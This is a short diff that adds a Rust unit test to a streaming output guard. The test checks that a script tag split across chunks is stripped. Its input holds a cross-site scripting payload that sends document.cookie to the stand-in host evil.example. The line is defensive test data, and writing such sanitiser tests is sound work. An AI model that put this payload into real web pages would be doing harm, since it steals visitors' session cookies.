@@ -269,6 +269,22 @@ mod tests {
     }
 
     #[test]
+    fn script_tag_split_across_chunks_is_sanitised() {
+        let g = guard(small());
+        let (text, codes, _) = run(
+            &g,
+            Context::default(),
+            &[
+                "Result: <scr",
+                "ipt>fetch('//evil.example/'+document.cookie)</scr",
+                "ipt> ok",
+            ],
+        );
+        assert_eq!(codes, vec!["GRD021"]);
+        assert_eq!(text, "Result:  ok");
+    }
+
+    #[test]
     fn canary_split_across_chunks_blocks_the_stream() {
         let mut cfg = small();
         cfg.output.canary_tokens = vec!["pal-canary-0011223344".to_owned()];
